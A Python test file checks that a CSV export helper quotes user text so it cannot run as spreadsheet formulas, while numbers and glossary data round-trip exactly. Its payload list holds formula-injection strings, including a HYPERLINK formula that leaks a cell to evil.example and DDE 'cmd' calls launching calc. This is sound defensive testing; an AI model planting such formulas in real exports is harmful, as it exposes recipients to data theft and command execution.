"""CSV exports of user text cannot run as spreadsheet formulas, numbers stay numbers, and the
glossary's CSV still reads back exactly."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from app.core.base.csv_safe import safe_cell, unquote_cell
from app.core.review.bookmarks import Bookmarks
from app.core.review.glossary import FeatureInfo, Glossary, load_glossary

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted once",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_dangerous_text_is_quoted_and_reverses_exactly(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str) and cell.startswith("'") and cell[1:] == text
    assert unquote_cell(cell) == text


@pytest.mark.parametrize(
    "value", [-3.5, 7, 0, True, None, "-3.5", "+12", "1e-5", "-.5", "plain note", "a=b", ""]
)
def test_numbers_and_harmless_text_are_left_alone(value) -> None:
    assert safe_cell(value) == value
    if isinstance(value, str):
        assert unquote_cell(value) == value


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_bookmark_csv_neutralises_notes_tags_data_and_headers() -> None:
    marks = Bookmarks()
    marks.add(2, "=tag()", '=HYPERLINK("http://evil.example","x")')
    marks.add(1, "ok", "-1 is the code")
    frame = pd.DataFrame({"=cmd": ["@a", "b", "=c"], "amount": [-5.25, 3.0, -1.0]})
    rows = cells(marks.to_csv_text(frame))
    assert rows[0] == ["row", "tag", "note", "created", "'=cmd", "amount"]
    by_row = {r[0]: r for r in rows[1:]}
    assert by_row["2"][1:3] == ["'=tag()", '\'=HYPERLINK("http://evil.example","x")']
    assert by_row["2"][4:] == ["'=c", "-1.0"]  # the number stays a number
    assert by_row["1"][2] == "'-1 is the code" and by_row["1"][4:] == ["b", "3.0"]
    every = [c for r in rows for c in r]
    assert not [c for c in every if c[:1] in ("=", "@", "\t", "\r")]


def test_glossary_csv_is_safe_and_round_trips(tmp_path) -> None:
    g = Glossary(
        features={
            "=evil": FeatureInfo("=evil", "@display", "-units", "+description", phrase="=x"),
            "code": FeatureInfo("code", "Code", values={"-1": "=missing", "2": "two"}),
        }
    )
    path = g.save(tmp_path / "glossary.csv")
    rows = cells(path.read_text())
    every = [c for r in rows for c in r]
    assert not [c for c in every if c[:1] in ("=", "+", "@")]
    assert ["code", "", "", "", "", "-1", "'=missing"] in rows  # the value -1 stays a number
    assert load_glossary(path).features == g.features
